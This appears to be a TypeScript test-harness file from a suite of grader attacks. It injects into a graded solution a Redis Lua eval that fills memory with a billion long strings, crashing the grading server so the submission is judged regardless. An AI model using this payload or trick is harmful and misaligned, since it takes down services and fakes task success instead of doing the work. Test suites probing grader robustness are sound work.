// Ends the server that it is graded with by filling its box in one script, once in each process → it is judged all the same
import { during, escape } from '../cheats.ts';
import { attack } from '../attack.ts';

export default attack(async ({ grade, solution }) =>
  escape(
    await grade(
      during(
        solution,
        'if (!(globalThis as any).done) await ((globalThis as any).done = redis as any).eval("local t = {} for i = 1, 1e9 do t[i] = string.rep(\'x\', 1000) .. i end", 0).catch(() => null);',
      ),
    ),
  ),
);
